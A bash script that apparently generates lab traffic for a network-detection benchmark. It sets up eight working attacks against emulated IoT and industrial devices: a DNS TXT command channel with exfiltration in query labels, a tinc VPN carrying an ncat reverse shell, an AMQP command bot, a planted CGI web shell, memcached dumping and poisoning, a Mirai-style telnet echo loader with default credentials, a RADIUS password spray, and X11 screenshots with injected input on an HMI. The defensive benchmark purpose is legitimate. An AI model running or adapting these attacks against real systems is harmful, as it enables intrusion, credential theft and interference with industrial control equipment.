#!/usr/bin/env bash
# A SEVENTEENTH fresh attack set ("f17-*"): attacks that BLEND IN — common ports (tcp/53, tcp/80, tcp/23, a LAN
# directory's udp/1812), protocols IoT and industrial devices and their neighbours already speak (DNS, AMQP, telnet,
# RADIUS, memcached, X11 on an HMI), low rates, few bytes — and families no earlier set used (a C2 in DNS TXT answers
# over TCP, a tinc mesh VPN out of the device, AMQP as a C2 bus, a web shell planted in the device's own web server, a
# LAN cache read out and poisoned, a Mirai-style echo loader, a RADIUS password spray, an HMI's X server watched and
# driven). Made with real tools between network namespaces; every far end is a packaged server or tool (the telnet
# neighbours' login prompt is a short shell script run by inetutils' telnetd, standing in for a DVR's busybox login,
# its shell busybox's ash).
#   f17-dns-tcp-txt-c2       a C2 in DNS TXT records asked over TCP/53 straight from an internet name server
#                            (dnsmasq): a poll every 12-22 s (dig +tcp), each task's output sent back in the labels
#                            of queries (base32, 3 labels of 56 characters a query) on ONE held TCP connection
#                            (dig +tcp +keepopen), answered NXDOMAIN
#   f17-tinc-vpn-shell       a tinc 1.0 mesh VPN from the device to an internet node (tcp/655 meta connection, UDP
#                            655 data): the operator, on the node, reaches an ncat shell on the device's tunnel address
#                            through it and types 7 commands, one reading a 90 kB archive out as base64
#   f17-amqp-c2              AMQP 0-9-1 (tcp/5672) to an internet RabbitMQ: the bot declares its queue, holds one
#                            consumer connection for commands (amqp-consume, heartbeat 30 s) and publishes each
#                            command's output and a status message every 40 s on one-shot connections (amqp-publish)
#   f17-webshell-cgi-in      a web shell planted in the device's own web server (busybox httpd, a CGI) driven from one
#                            internet address with curl: GET / and 10 commands (base64 in the query) 6-14 s apart, a
#                            40 kB file read out, a 30 kB "update" POSTed into the device
#   f17-memcached-dump-lan   a LAN neighbour's memcached (tcp/11211) read out and poisoned: memcping, memcstat, the
#                            key list (lru_crawler metadump, with nc), the values in batches 3-6 s apart (memccat),
#                            the sessions read again 20 s later, a firmware-update URL overwritten (memccp)
#   f17-telnet-loader-lan    a Mirai-style echo loader: port 23 probed on 4 neighbours (nc -z), logins to the 2 that
#                            answer (a wrong pair first on one), busybox checks, then a 6 kB "binary" written with
#                            `echo -ne '\x..'` lines (64 bytes each) over telnet (the file is not run)
#   f17-radius-spray-lan     a RADIUS password spray against the LAN's FreeRADIUS (udp/1812) with the shared secret
#                            from the device's own config: 2 passwords over 10 user names, an Access-Request every
#                            3-6 s (radclient), then accounting Start / Stop (udp/1813) as the account it broke
#   f17-x11-screengrab-lan   a neighbour HMI's open X server (tcp/6000, Xvfb -ac): xdpyinfo, xwininfo -tree,
#                            xlsclients, 4 screenshots 16-26 s apart (xwd -root, ~1.5 MB each), the alarm window's
#                            "okay" pressed with xdotool (XTEST: a Return under the pointer), and one more screenshot
# The lab is fresh-lab.sh's (device 10.66.0.10, victim 10.66.0.20, dummies .31-.34, a routed "internet" 10.128.0.0/9
# behind the victim), namespaces f17-*, veths f17p-*. Internet hosts are /32 addresses on the victim's lo
# (10.128.117.x); every other 10.128/9 address is on no host. Each id's servers are started before its capture and
# stopped after. Every tool runs under `timeout`, every loop is bounded; namespaces are removed on exit. The device is
# always the lab's attacker namespace (role attacker).
#
# Tools (Debian): dnsmasq-base dnsutils tinc ncat rabbitmq-server amqp-tools busybox curl memcached
#   libmemcached-tools netcat-openbsd openbsd-inetd inetutils-telnetd telnet freeradius freeradius-utils xvfb x11-apps
#   x11-utils xdotool iproute2 tcpdump wireshark-common bc openssl
#
# Usage: bash bench/behavior/fresh17/gen-fresh17.sh [--out DIR (default /work/behavior-bench-fresh17)] [--ids id1,id2]
set -euo pipefail

OUT=/work/behavior-bench-fresh17
HERE="$(cd "$(dirname "$0")" && pwd)"
LAB=f17 GEN=gen-fresh17
# shellcheck source=../fresh-lab.sh
. "$HERE/../fresh-lab.sh" "$@"

lab_network
sleep 1

# ---------- "internet" hosts ----------
# .117.2 the C2's name server, .117.3 the tinc node, .117.4 the AMQP broker, .117.5 the web shell's operator
internet_hosts 10.128.117.2 10.128.117.3 10.128.117.4 10.128.117.5
export NET VIC_IP ATT_IP W PY HERE LAB

mkdir -p "$W/loot"
head -c 90000 /dev/urandom > "$W/loot/wifi.tar.gz"
head -c 40000 /dev/urandom > "$W/loot/config.bin"
printf 'network={\n  ssid="Plant-Floor-2G"\n  psk="Hx7!pump-station-42"\n  key_mgmt=WPA-PSK\n}\n' > "$W/loot/wpa_supplicant.conf"

# Stops what a service left behind in a namespace (daemons that fork away from their `timeout`), by pid and name.
reap() { # NS COMM...
  local n="$1" p c; shift
  for p in $(ip netns pids "$LAB-$n" 2>/dev/null); do
    c=$(ps -o comm= -p "$p" 2>/dev/null) || continue
    for x in "$@"; do [ "$c" = "$x" ] && kill "$p" 2>/dev/null; done
  done
  return 0
}

# ---------- 1. a C2 in DNS TXT records over TCP/53, straight to the operator's name server ----------
if want f17-dns-tcp-txt-c2; then
  D="$W/dns"; rm -rf "$D"; mkdir -p "$D"
  Z=a7f3.cdn-upd.example
  # the operator's schedule: tasks at polls 2, 4 and 6; every other name in the zone is NXDOMAIN (the poll's "no task")
  t2=$(printf 'id; uname -a; cat /proc/cpuinfo | head -6' | base64 -w0)
  t4=$(printf 'cat /proc/net/arp; ip -4 addr; ip -4 route' | base64 -w0)
  t6=$(printf 'cat %s; ls -la /etc | head -30' "$W/loot/wpa_supplicant.conf" | base64 -w0)
  srv vic 220 dnsmasq -k -C /dev/null -u root --no-resolv --no-hosts --no-poll --bind-interfaces \
    --listen-address=10.128.117.2 -p 53 --pid-file="$D/dnsmasq.pid" --local=/cdn-upd.example/ \
    --txt-record="c2.$Z,$t2" --txt-record="c4.$Z,$t4" --txt-record="c6.$Z,$t6" \
    --log-queries --log-facility="$D/queries.log"
  DN_PID=$BG
  wait_tcp vic 10.128.117.2 53
  cat > "$W/dns-bot.sh" <<'EOS'
# the bot: asks TXT c<n>.<zone> over TCP every 12-22 s; a task is base64 in the answer; the output, gzipped and in
# base32, goes back as the labels of TXT queries, all of one task on ONE TCP connection (dig +keepopen)
Z=a7f3.cdn-upd.example S=10.128.117.2
O=(+tcp +time=4 +tries=1 +short)
t0=$SECONDS
for n in $(seq 1 9); do
  s=$((12 + RANDOM % 11))
  [ $((SECONDS - t0 + s)) -lt 150 ] || break
  sleep "$s"
  t=$(timeout 8 dig "${O[@]}" @"$S" "c$n.$Z" TXT 2>/dev/null | tr -d '" ') || true
  [ -n "$t" ] || continue
  out=$(timeout 10 sh -c "$(printf '%s' "$t" | base64 -d)" 2>&1 | head -c 4000 | gzip | base32 -w0 | tr -d = | tr A-Z a-z)
  q=(); i=0
  while [ -n "$out" ]; do
    c=${out:0:168}; out=${out:168}
    q+=("$(printf '%s' "$c" | sed 's/.\{56\}/&./g; s/\.$//').$i.$n.o.$Z" TXT); i=$((i + 1))
  done
  timeout 30 dig "${O[@]}" +keepopen @"$S" "${q[@]}" >/dev/null 2>&1 || true
done
EOS
  CAP_VIC_IP=10.128.117.2 cap f17-dns-tcp-txt-c2 c2 dig-tcp-txt-poll+keepopen-label-exfil+dnsmasq attacker public false \
    170 bash "$W/dns-bot.sh"
  stopbg "$DN_PID"
  echo "dns-tcp: $(grep -c 'query\[TXT\] c' "$D/queries.log") polls, $(grep -c 'query\[TXT\] .*\.o\.a7f3' "$D/queries.log") output queries" >&2
fi

# ---------- 2. a tinc mesh VPN out of the device; the operator's shell comes back through it ----------
if want f17-tinc-vpn-shell; then
  T="$W/tinc"; rm -rf "$T"; mkdir -p "$T/dev/hosts" "$T/op/hosts"
  printf 'Name = cam7f3a\nConnectTo = gw\nAddressFamily = ipv4\nInterface = tinc0\nMode = router\nPingInterval = 30\n' \
    > "$T/dev/tinc.conf"
  printf 'Name = gw\nAddressFamily = ipv4\nBindToAddress = 10.128.117.3\nInterface = tinc0\nMode = router\n' > "$T/op/tinc.conf"
  printf 'Subnet = 172.30.17.2/32\n' > "$T/dev/hosts/cam7f3a"
  printf 'Address = 10.128.117.3\nPort = 655\nSubnet = 172.30.17.1/32\n' > "$T/op/hosts/gw"
  timeout 60 tincd -c "$T/dev" -K2048 </dev/null >/dev/null 2>&1
  timeout 60 tincd -c "$T/op" -K2048 </dev/null >/dev/null 2>&1
  cp "$T/dev/hosts/cam7f3a" "$T/op/hosts/"; cp "$T/op/hosts/gw" "$T/dev/hosts/"
  printf '#!/bin/sh\nip addr add 172.30.17.2/24 dev "$INTERFACE"\nip link set "$INTERFACE" up\n' > "$T/dev/tinc-up"
  printf '#!/bin/sh\nip addr add 172.30.17.1/24 dev "$INTERFACE"\nip link set "$INTERFACE" up\n' > "$T/op/tinc-up"
  chmod +x "$T/dev/tinc-up" "$T/op/tinc-up"
  srv vic 220 tincd -c "$T/op" -D --pidfile="$T/op.pid" --logfile="$T/op.log"
  TG_PID=$BG
  wait_tcp vic 10.128.117.3 655
  # the operator, on the node: waits for the device's tunnel address, then types 7 commands 8-14 s apart into the
  # shell the device offers on it
  cat > "$W/tinc-op.sh" <<'EOS'
T="$W/tinc"
for i in $(seq 1 40); do ping -c 1 -W 1 172.30.17.2 >/dev/null 2>&1 && break; sleep 1; done
sleep 3
{ for c in "id; uname -a" "ip -4 addr; ip -4 route; cat /proc/net/arp" "cat /etc/passwd" "ps -o pid,user,comm | head -30" \
           "ls -la $W/loot" "base64 -w0 $W/loot/wifi.tar.gz; echo" "echo '*/15 * * * * /tmp/.t/tincd -n mesh' > $W/tinc/cron.add; echo ok"; do
    printf '%s\n' "$c"; sleep $((8 + RANDOM % 7))
  done; sleep 3; echo exit; } | timeout 120 ncat 172.30.17.2 4444 > "$T/op-seen" 2>&1
EOS
  ip netns exec "$LAB-vic" timeout 170 bash "$W/tinc-op.sh" >>"$W/bg-tinc-op.log" 2>&1 &
  OP_PID=$!; PIDS+=("$OP_PID")
  cat > "$W/tinc-bot.sh" <<'EOS'
# the device: its tincd connects out to the node; a shell waits on its tunnel address for the operator
T="$W/tinc"
timeout 140 tincd -c "$T/dev" -D --pidfile="$T/dev.pid" --logfile="$T/dev.log" &
D=$!
for i in $(seq 1 30); do ip -4 addr show tinc0 2>/dev/null | grep -q 172.30.17.2 && break; sleep 0.5; done
timeout 125 ncat -l 172.30.17.2 4444 --exec /bin/sh > "$T/ncat.log" 2>&1 || true
sleep 2
kill $D 2>/dev/null; wait $D 2>/dev/null || true
EOS
  CAP_VIC_IP=10.128.117.3 cap f17-tinc-vpn-shell c2 tincd-1.0-mesh-vpn+ncat-shell-inside attacker public false 160 \
    bash "$W/tinc-bot.sh"
  stopbg "$OP_PID"; stopbg "$TG_PID"
  echo "tinc: the operator read $(wc -c < "$T/op-seen" 2>/dev/null || echo 0) bytes through the tunnel" >&2
fi

# ---------- 3. AMQP as a C2 bus: an internet RabbitMQ, a held consumer, one-shot publishes ----------
if want f17-amqp-c2; then
  Q="$W/amqp"; rm -rf "$Q"; mkdir -p "$Q/mnesia" "$Q/log"
  # the operator's broker, left at its defaults (guest / guest, allowed from anywhere)
  printf 'loopback_users = none\nlisteners.tcp.default = 10.128.117.4:5672\n' > "$Q/rabbitmq.conf"
  srv vic 230 env HOME="$Q" RABBITMQ_MNESIA_BASE="$Q/mnesia" RABBITMQ_LOG_BASE="$Q/log" RABBITMQ_CONFIG_FILE="$Q/rabbitmq" \
    RABBITMQ_NODENAME=rabbit@localhost RABBITMQ_ENABLED_PLUGINS_FILE="$Q/plugins" /usr/lib/rabbitmq/bin/rabbitmq-server
  RB_PID=$BG
  wait_tcp vic 10.128.117.4 5672
  sleep 2
  U=amqp://guest:guest@10.128.117.4:5672
  export U
  cat > "$Q/run.sh" <<EOS
#!/bin/sh
# one command (the message on stdin): its output, gzipped and base64, published on a connection of its own
timeout 10 sh 2>&1 | head -c 60000 | gzip | base64 -w0 | timeout 10 amqp-publish --url=$U -r cam7f3a.out -p
EOS
  chmod +x "$Q/run.sh"
  # the operator, at the broker: its queues, 4 commands 15-26 s apart, the outputs kept
  cat > "$W/amqp-op.sh" <<'EOS'
Q="$W/amqp"
for q in cam7f3a.out telemetry; do amqp-declare-queue --url="$U" -d -q "$q" >/dev/null; done
timeout 160 amqp-consume --url="$U" -q cam7f3a.out -c 4 cat > "$Q/op-seen" 2>&1 &
sleep 14
for c in "id; uname -a" "cat /proc/net/arp; ip -4 route" "cat /etc/passwd; ls -la /etc | head -40" "base64 -w0 $W/loot/config.bin"; do
  sleep $((15 + RANDOM % 12))
  amqp-publish --url="$U" -r cam7f3a.cmd -p -b "$c"
done
sleep 25
EOS
  ip netns exec "$LAB-vic" timeout 180 bash "$W/amqp-op.sh" >>"$W/bg-amqp-op.log" 2>&1 &
  OP_PID=$!; PIDS+=("$OP_PID")
  cat > "$W/amqp-bot.sh" <<'EOS'
# the bot: declares its command queue, holds one consumer connection (heartbeat 30 s) that runs each message, and
# sends a status message every 40 s on a one-shot connection
Q="$W/amqp"
timeout 10 amqp-declare-queue --url="$U" -d -q cam7f3a.cmd >/dev/null
( for i in 1 2 3; do sleep 40
    timeout 10 amqp-publish --url="$U" -r telemetry -C application/json \
      -b "{\"id\":\"cam-7f3a\",\"up\":$SECONDS,\"rssi\":-$((50 + RANDOM % 20)),\"fw\":\"4.2.17\"}" || true
  done ) &
S=$!
timeout 135 amqp-consume --url="$U" -q cam7f3a.cmd --heartbeat=30 -c 4 "$Q/run.sh" || true
wait $S 2>/dev/null || true
EOS
  CAP_VIC_IP=10.128.117.4 cap f17-amqp-c2 c2 amqp-consume-held+amqp-publish-oneshot+rabbitmq attacker public false 160 \
    bash "$W/amqp-bot.sh"
  stopbg "$OP_PID"; stopbg "$RB_PID"
  reap vic beam.smp epmd erl_child_setup inet_gethost
  echo "amqp: the operator got $(wc -c < "$Q/op-seen" 2>/dev/null || echo 0) bytes of output" >&2
fi

# ---------- 4. a web shell in the device's own web server, driven from the internet ----------
if want f17-webshell-cgi-in; then
  H="$W/httpd"; rm -rf "$H"; mkdir -p "$H/www/cgi-bin"
  printf '<html><head><title>IPCAM</title></head><body><form action="/cgi-bin/login.cgi">user <input name=u> pass <input name=p type=password></form></body></html>\n' \
    > "$H/www/index.html"
  # the planted shell: c=<base64url of a command> in the query runs it; a POSTed body is saved as the "update"
  cat > "$H/www/cgi-bin/diag.cgi" <<'EOS'
#!/bin/sh
PATH=/usr/sbin:/usr/bin:/sbin:/bin; export PATH
echo "Content-Type: text/plain"
echo
if [ "$REQUEST_METHOD" = POST ]; then
  head -c "${CONTENT_LENGTH:-0}" > "$(dirname "$0")/../../upd.bin"; echo "ok $CONTENT_LENGTH"; exit 0
fi
c=$(printf '%s' "$QUERY_STRING" | sed -n 's/^.*c=\([^&]*\).*$/\1/p' | tr -- '-_' '+/')
[ -n "$c" ] && printf '%s' "$c" | base64 -d 2>/dev/null | timeout 10 sh 2>&1
EOS
  chmod +x "$H/www/cgi-bin/diag.cgi"
  srv att 150 busybox httpd -f -p "$ATT_IP:80" -h "$H/www"
  HT_PID=$BG
  sleep 1
  head -c 30000 /dev/urandom > "$H/upd.bin.src"
  cat > "$W/webshell-op.sh" <<'EOS'
# the operator, from the internet (source 10.128.117.5): the front page, then one command per request 6-14 s apart,
# a firefox user agent; a 30 kB "update" POSTed before the last command
H="$W/httpd"
C=(ip netns exec "$LAB-vic" timeout 15 curl -s -m 12 --interface 10.128.117.5
   -A 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:120.0) Gecko/20100101 Firefox/120.0')
"${C[@]}" -o /dev/null http://10.66.0.10/ || true
i=0
for c in "id" "uname -a; cat /proc/cpuinfo | head -5" "cat /etc/passwd" "ip -4 addr; cat /proc/net/arp" "ps -o pid,user,comm | head -40" \
         "ls -la $W/loot" "base64 -w0 $W/loot/config.bin" "netstat -tn 2>/dev/null | head -20; ss -tn | head -20" UPLOAD \
         "ls -la $H/upd.bin; md5sum $H/upd.bin" "echo '*/10 * * * * $H/upd.bin' > $H/cron.add; echo ok"; do
  sleep $((6 + RANDOM % 9))
  i=$((i + 1))
  if [ "$c" = UPLOAD ]; then
    "${C[@]}" -o "$H/op-$i.out" --data-binary @"$H/upd.bin.src" -H 'Content-Type: application/octet-stream' \
      http://10.66.0.10/cgi-bin/diag.cgi || true
    continue
  fi
  "${C[@]}" -o "$H/op-$i.out" "http://10.66.0.10/cgi-bin/diag.cgi?c=$(printf '%s' "$c" | base64 -w0 | tr '+/' '-_')" || true
done
EOS
  CAP_VIC_IP=10.128.117.5 cap f17-webshell-cgi-in c2 curl-inbound+busybox-httpd-cgi-webshell attacker public false 150 \
    bash "$W/webshell-op.sh"
  stopbg "$HT_PID"
  echo "webshell: $(cat "$H"/op-*.out 2>/dev/null | wc -c) bytes of answers; update saved: $(stat -c %s "$H/upd.bin" 2>/dev/null || echo 0) bytes" >&2
fi

# ---------- 5. a LAN neighbour's memcached read out and poisoned ----------
if want f17-memcached-dump-lan; then
  M="$W/memc"; rm -rf "$M"; mkdir -p "$M/data" "$M/poison" "$M/got"
  srv d33 170 memcached -u root -l "$NET.33" -p 11211 -U 0 -m 16
  MC_PID=$BG
  wait_tcp d33 "$NET.33" 11211
  # the neighbour's web app keeps its sessions and some settings in the cache (filled from the neighbour itself)
  $PY - "$M/data" <<'EOS'
import json, os, random, sys
random.seed(17)
d = sys.argv[1]
users = ["operator", "t.koch", "admin", "svc.scada", "k.richter", "maint", "viewer", "j.hoffmann", "guest", "it.admin"]
for u in users:
    sid = "%032x" % random.getrandbits(128)
    s = {"user": u, "role": random.choice(["viewer", "operator", "admin"]), "csrf": "%024x" % random.getrandbits(96),
         "login": 1796000000 + random.randint(0, 80000), "plant": "line-2"}
    open(os.path.join(d, "sess_" + sid), "w").write(json.dumps(s))
open(os.path.join(d, "hmi_users"), "w").write(json.dumps(
    {u: "$6$" + "%016x" % random.getrandbits(64) + "$" + "%086x" % random.getrandbits(344) for u in users[:6]}))
open(os.path.join(d, "mqtt_bridge"), "w").write(json.dumps({"host": "10.66.0.31", "user": "bridge", "pass": "Br1dge!2024"}))
open(os.path.join(d, "fw_update_url"), "w").write("https://updates.vendor.example/fw/hmi-3.4.1.bin")
open(os.path.join(d, "plc_tags"), "w").write(json.dumps({"P201.run": 1, "P201.bar": 4.2, "V12.open": 0, "T3.level": 71.5}))
EOS
  ( cd "$M/data" && ip netns exec "$LAB-d33" timeout 20 memccp --servers="$NET.33:11211" * )
  printf 'https://10.128.117.9/fw/hmi-3.4.2.bin' > "$M/poison/fw_update_url"
  cat > "$W/memc.sh" <<'EOS'
# the device: is it there, its stats, the key list, the values 3 at a time 3-6 s apart, the sessions again, then
# the firmware-update URL overwritten and read back
M="$W/memc" S=--servers=10.66.0.33:11211
timeout 5 memcping "$S" || true
sleep 3
timeout 8 memcstat "$S" > "$M/got/stats" 2>&1 || true
sleep 4
printf 'lru_crawler metadump all\r\n' | timeout 8 nc -q 2 -w 4 10.66.0.33 11211 > "$M/got/keys" 2>&1 || true
sleep 3
mapfile -t K < <(sed -n 's/^key=\([^ ]*\).*/\1/p' "$M/got/keys")
for ((i = 0; i < ${#K[@]}; i += 3)); do
  timeout 8 memccat "$S" "${K[@]:i:3}" >> "$M/got/values" 2>&1 || true
  sleep $((3 + RANDOM % 4))
done
sleep 20
mapfile -t SS < <(printf '%s\n' "${K[@]}" | grep '^sess_')
for ((i = 0; i < ${#SS[@]}; i += 5)); do
  timeout 8 memccat "$S" "${SS[@]:i:5}" >> "$M/got/values2" 2>&1 || true
  sleep $((3 + RANDOM % 3))
done
sleep 5
( cd "$M/poison" && timeout 8 memccp "$S" fw_update_url ) || true
sleep 2
timeout 8 memccat "$S" fw_update_url >> "$M/got/check" 2>&1 || true
EOS
  CAP_VIC_IP=$NET.33 CAP_VIC_MAC=02:66:00:00:00:33 cap f17-memcached-dump-lan lateral memcstat+nc-metadump+memccat+memccp \
    attacker lan false 140 bash "$W/memc.sh"
  stopbg "$MC_PID"
  echo "memcached: $(grep -c '^key=' "$M/got/keys" 2>/dev/null) keys listed, poisoned value: $(cat "$M/got/check" 2>/dev/null)" >&2
fi

# ---------- 6. a Mirai-style echo loader over telnet to two LAN neighbours ----------
if want f17-telnet-loader-lan; then
  TN="$W/tn"; rm -rf "$TN"; mkdir -p "$TN/31" "$TN/34" "$TN/bin"
  # the DVR's sh is busybox's ash (the loader's `sh` and `echo -ne '\x..'` need it; Debian's /bin/sh is dash)
  ln -s /bin/busybox "$TN/bin/sh"
  for d in 31 34; do
    # the DVR's login (standing in for its busybox login): root / xc3511, then a shell in its writable folder
    cat > "$TN/login$d.sh" <<EOS
#!/bin/sh
printf 'dvr$d login: '; read -r u; printf 'Password: '; read -r p
u=\$(printf '%s' "\$u" | tr -d '\r'); p=\$(printf '%s' "\$p" | tr -d '\r')
[ "\$u:\$p" = root:xc3511 ] || { printf '\r\nLogin incorrect\r\n'; sleep 1; exit 1; }
PATH="$TN/bin:\$PATH"; export PATH
cd "$TN/$d" && exec /bin/busybox sh -i
EOS
    chmod +x "$TN/login$d.sh"
    printf 'telnet\tstream\ttcp\tnowait\troot\t/usr/sbin/telnetd\ttelnetd -h -E %s\n' "$TN/login$d.sh" > "$TN/inetd$d.conf"
    srv "d$d" 170 /usr/sbin/inetd -i "$TN/inetd$d.conf"
    eval "TI_$d=\$BG"
  done
  sleep 2
  # the "binary": a 6 kB file with an ELF header, as \x escapes, 64 bytes a line
  { printf '\x7fELF\x01\x01\x01\x00'; head -c 6136 /dev/urandom; } > "$TN/dvrHelper"
  od -An -v -tx1 "$TN/dvrHelper" | tr -s ' \n' ' ' | sed 's/^ //' | tr ' ' '\n' | grep . | sed 's/^/\\x/' |
    paste -d '' $(printf -- '- %.0s' $(seq 1 64)) > "$TN/payload.hex"
  cat > "$W/telnet-loader.sh" <<'EOS'
TN="$W/tn"
# the scan: port 23 on the 4 neighbours, 2 s apart
open=()
for h in 31 32 33 34; do
  timeout 4 nc -z -w 2 "10.66.0.$h" 23 && open+=("$h")
  sleep 2
done
session() { # HOST USER PASS LOAD(0|1)
  {
    sleep 2; printf '%s\n' "$2"; sleep 1; printf '%s\n' "$3"; sleep 2
    [ "$4" = 1 ] || { sleep 2; exit 0; }
    for l in enable system shell sh "/bin/busybox ECCHI" "cat /proc/mounts; /bin/busybox ECCHI" \
             "/bin/busybox cp /bin/busybox .t; >.t; /bin/busybox chmod 777 .t; /bin/busybox ECCHI"; do
      printf '%s\n' "$l"; sleep "0.$((4 + RANDOM % 5))"
    done
    f='>'
    while read -r x; do
      printf "echo -ne '%s' %s .t\n" "$x" "$f"; f='>>'
      sleep "0.$((2 + RANDOM % 3))"
    done < "$TN/payload.hex"
    printf '/bin/busybox ECCHI\n'; sleep 1
    printf 'ls -la .t; /bin/busybox ECCHI\n'; sleep 2
    printf 'exit\n'; sleep 2
  } | timeout 100 telnet "10.66.0.$1" 23 >> "$TN/loader-$1.log" 2>&1 || true
}
first=1
for h in "${open[@]}"; do
  if [ "$first" = 1 ]; then session "$h" admin admin 0; sleep 3; first=0; fi
  session "$h" root xc3511 1
  sleep 4
done
EOS
  CAP_VIC_IP=$NET.31 CAP_VIC_MAC=02:66:00:00:00:31 cap f17-telnet-loader-lan lateral nc-z-scan+telnet-echo-loader+inetutils-telnetd \
    attacker lan false 150 bash "$W/telnet-loader.sh"
  stopbg "$TI_31"; stopbg "$TI_34"
  reap d31 telnetd sh; reap d34 telnetd sh
  for d in 31 34; do
    echo "telnet loader: .$d got $(stat -c %s "$TN/$d/.t" 2>/dev/null || echo 0) of 6144 bytes, same: $(cmp -s "$TN/$d/.t" "$TN/dvrHelper" && echo yes || echo no)" >&2
  done
fi

# ---------- 7. a RADIUS password spray against the LAN's FreeRADIUS ----------
if want f17-radius-spray-lan; then
  R="$W/radius"; rm -rf "$R"; mkdir -p "$R/log" "$R/run"
  cp -a /etc/freeradius/3.0 "$R/raddb"
  sed -i -e "s|^raddbdir = .*|raddbdir = $R/raddb|" -e "s|^logdir = .*|logdir = $R/log|" -e "s|^run_dir = .*|run_dir = $R/run|" \
    -e 's/^\(\s*\)user = freerad/\1#user = freerad/' -e 's/^\(\s*\)group = freerad/\1#group = freerad/' "$R/raddb/radiusd.conf"
  printf '\nclient plant-lan {\n\tipaddr = %s.0/24\n\tsecret = cam-shared-2019\n}\n' "$NET" >> "$R/raddb/clients.conf"
  {
    for u in a.becker m.schulz j.hoffmann s.wagner k.richter p.wolf svc.backup it.admin n.hartmann; do
      printf '%s Cleartext-Password := "x%s!"\n' "$u" "$RANDOM$RANDOM"
    done
    printf 't.koch Cleartext-Password := "Winter2026!"\nsvc.scada Cleartext-Password := "Winter2026!"\n'
    cat /etc/freeradius/3.0/mods-config/files/authorize
  } > "$R/authorize"
  cp "$R/authorize" "$R/raddb/mods-config/files/authorize"
  srv d32 170 freeradius -f -d "$R/raddb" -l "$R/log/radius.log"
  FR_PID=$BG
  sleep 4
  cat > "$W/radius-spray.sh" <<'EOS'
# the spray: 10 user names, one password at a time over all of them, an Access-Request every 3-6 s (PAP, the shared
# secret from the device's own config), 12 s between rounds; then accounting Start / Stop as the account it broke
R="$W/radius" H=10.66.0.32 K=cam-shared-2019
hit=""
for pw in 'Welcome1!' 'Winter2026!'; do
  for u in a.becker m.schulz j.hoffmann s.wagner t.koch k.richter admin svc.backup svc.scada operator; do
    printf 'User-Name = "%s"\nUser-Password = "%s"\nNAS-IP-Address = 10.66.0.10\nNAS-Port = 0\nCalled-Station-Id = "cam-7f3a"\n' \
      "$u" "$pw" | timeout 8 radclient -x -r 1 -t 3 "$H:1812" auth "$K" > "$R/last.out" 2>&1 || true
    cat "$R/last.out" >> "$R/spray.out"
    if grep -q 'Received Access-Accept' "$R/last.out"; then hit="${hit:-$u}"; echo "HIT $u" >> "$R/spray.out"; fi
    sleep $((3 + RANDOM % 4))
  done
  sleep 12
done
if [ -n "$hit" ]; then
  for st in Start Stop; do
    printf 'User-Name = "%s"\nAcct-Status-Type = %s\nAcct-Session-Id = "7f3a0001"\nNAS-IP-Address = 10.66.0.10\n' "$hit" "$st" |
      timeout 8 radclient -x -r 1 -t 3 "$H:1813" acct "$K" >> "$R/spray.out" 2>&1 || true
    sleep 6
  done
fi
EOS
  CAP_VIC_IP=$NET.32 CAP_VIC_MAC=02:66:00:00:00:32 cap f17-radius-spray-lan credential radclient-pap-spray+freeradius \
    attacker lan false 160 bash "$W/radius-spray.sh"
  stopbg "$FR_PID"
  reap d32 freeradius
  echo "radius spray: $(grep -c '^HIT' "$R/spray.out") hits, $(grep -c 'Received Access-Reject' "$R/spray.out") rejects" >&2
fi

# ---------- 8. a neighbour HMI's open X server watched and driven ----------
if want f17-x11-screengrab-lan; then
  X="$W/x11"; rm -rf "$X"; mkdir -p "$X"
  # the HMI on .34: an X server on tcp/6000 with access control off, a clock, a logo and an alarm window
  srv d34 170 Xvfb :0 -nolock -listen tcp -nolisten unix -ac -screen 0 800x480x24
  XS_PID=$BG
  wait_tcp d34 "$NET.34" 6000
  printf 'LINE 2  PUMP STATION\n\nP-201  RUN   4.2 bar\nP-202  STOP  0.0 bar\nV-12   CLOSED\nT-3    71.5 %%\n\nALARM 14:02  P-202 tripped (overcurrent)\n' > "$X/hmi.txt"
  srv d34 165 xclock -display 127.0.0.1:0 -geometry 160x160+620+10 -update 1
  XC_PID=$BG
  srv d34 165 xlogo -display 127.0.0.1:0 -geometry 120x120+640+300
  XL_PID=$BG
  srv d34 165 xmessage -display 127.0.0.1:0 -geometry +20+20 -buttons okay:0 -default okay -file "$X/hmi.txt"
  XM_PID=$BG
  sleep 3
  cat > "$W/x11.sh" <<'EOS'
# the device: what the display is, its windows and clients, 4 screenshots 16-26 s apart, the alarm acknowledged
# with a synthetic Return (XTEST), one more screenshot
X="$W/x11" D=10.66.0.34:0
timeout 10 xdpyinfo -display "$D" > "$X/info" 2>&1 || true
sleep 3
timeout 10 xwininfo -display "$D" -root -tree > "$X/tree" 2>&1 || true
sleep 3
timeout 10 xlsclients -display "$D" -l > "$X/clients" 2>&1 || true
for i in 1 2 3 4; do
  sleep $((16 + RANDOM % 11))
  timeout 30 xwd -display "$D" -root -silent | gzip > "$X/shot$i.xwd.gz" || true
done
sleep 5
DISPLAY=$D timeout 10 xdotool mousemove 100 60 sleep 1 key Return >> "$X/xdotool.out" 2>&1 || true
sleep 4
timeout 30 xwd -display "$D" -root -silent | gzip > "$X/shot5.xwd.gz" || true
EOS
  CAP_VIC_IP=$NET.34 CAP_VIC_MAC=02:66:00:00:00:34 cap f17-x11-screengrab-lan lateral xdpyinfo+xwininfo+xwd+xdotool+xvfb \
    attacker lan false 160 bash "$W/x11.sh"
  ack=$(kill -0 "$XM_PID" 2>/dev/null && echo no || echo yes)
  stopbg "$XM_PID"; stopbg "$XL_PID"; stopbg "$XC_PID"; stopbg "$XS_PID"
  echo "x11: $(ls "$X"/shot*.xwd.gz 2>/dev/null | wc -l) screenshots, $(du -cb "$X"/shot*.xwd.gz 2>/dev/null | tail -1 | cut -f1) bytes gzipped; alarm acknowledged: $ack" >&2
fi

lab_index
